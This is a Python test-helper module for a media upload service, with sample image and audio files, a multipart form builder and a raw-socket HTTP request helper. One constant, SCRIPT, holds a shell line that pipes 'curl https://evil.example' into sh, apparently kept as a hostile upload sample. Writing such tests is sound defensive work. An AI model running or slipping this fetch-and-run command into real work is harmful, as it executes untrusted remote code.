"""Media test helpers: sample files of every accepted type, the media settings of each store,
multipart bodies built by hand, and a raw socket for requests no HTTP client would send."""

from __future__ import annotations

import hashlib
import socket
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import urlsplit

# The smallest files whose first bytes say what they are; the rest is padding.
SAMPLES: dict[str, tuple[bytes, str, str]] = {  # name -> (bytes, content type, extension)
    "png": (b"\x89PNG\r\n\x1a\n" + bytes(range(64)), "image/png", "png"),
    "jpeg": (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(64), "image/jpeg", "jpg"),
    "webp": (b"RIFF\x24\x00\x00\x00WEBPVP8 " + bytes(64), "image/webp", "webp"),
    "gif": (b"GIF89a\x01\x00\x01\x00" + bytes(64), "image/gif", "gif"),
    "mp3 with id3": (b"ID3\x04\x00\x00\x00\x00\x00\x00" + bytes(64), "audio/mpeg", "mp3"),
    "mp3 frame": (b"\xff\xfb\x90\x64" + bytes(64), "audio/mpeg", "mp3"),
    "ogg": (b"OggS\x00\x02" + bytes(64), "audio/ogg", "ogg"),
    "wav": (b"RIFF\x24\x00\x00\x00WAVEfmt " + bytes(64), "audio/wav", "wav"),
}
PNG = SAMPLES["png"][0]
MP3 = SAMPLES["mp3 with id3"][0]
SCRIPT = b"#!/bin/sh\ncurl https://evil.example | sh\n"
BOUNDARY = "gaia-test-boundary"


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def png_of_size(size: int, seed: int = 0) -> bytes:
    """A PNG-typed file of exactly ``size`` bytes whose content depends on ``seed``."""
    head = b"\x89PNG\r\n\x1a\n"
    block = hashlib.sha256(str(seed).encode()).digest() * 2048
    body = (block * (size // len(block) + 1))[: size - len(head)]
    return head + body


@dataclass(frozen=True)
class MediaBackend:
    """Where a test's media goes: ``overrides`` are the service settings that choose it."""

    name: str  # "local" | "gcs" | "gcs-signed"
    overrides: dict[str, Any] = field(default_factory=dict)


def multipart(
    data: bytes,
    *,
    filename: str = "file.bin",
    content_type: str = "application/octet-stream",
    fields: dict[str, str] | None = None,
    closing: bool = True,
) -> bytes:
    """A ``multipart/form-data`` body with ``data`` in the ``file`` field (``BOUNDARY``)."""
    parts = [
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode()
        for name, value in (fields or {}).items()
    ]
    parts.append(
        (
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; '
            f'filename="{filename}"\r\nContent-Type: {content_type}\r\n\r\n'
        ).encode()
        + data
        + b"\r\n"
    )
    if closing:
        parts.append(f"--{BOUNDARY}--\r\n".encode())
    return b"".join(parts)


MULTIPART_TYPE = f"multipart/form-data; boundary={BOUNDARY}"


def raw_request(
    base_url: str,
    head: str,
    body: bytes = b"",
    *,
    close_without_reading: bool = False,
    timeout: float = 10.0,
) -> bytes:
    """Send ``head`` (request line and headers, CRLF-separated, no blank line) and ``body`` on a
    new connection; return everything the server answers, or nothing when closing at once."""
    url = urlsplit(base_url)
    with socket.create_connection((url.hostname or "127.0.0.1", url.port or 80), timeout) as sock:
        sock.sendall(head.encode() + b"\r\n\r\n" + body)
        if close_without_reading:
            return b""
        answer = b""
        while b"\r\n\r\n" not in answer or not _complete(answer):
            chunk = sock.recv(65536)
            if not chunk:
                break
            answer += chunk
        return answer


def _complete(answer: bytes) -> bool:
    head, _, body = answer.partition(b"\r\n\r\n")
    for line in head.split(b"\r\n"):
        name, _, value = line.partition(b":")
        if name.strip().lower() == b"content-length":
            return len(body) >= int(value)
    return False


def status_of(answer: bytes) -> int:
    return int(answer.split(b" ", 2)[1])
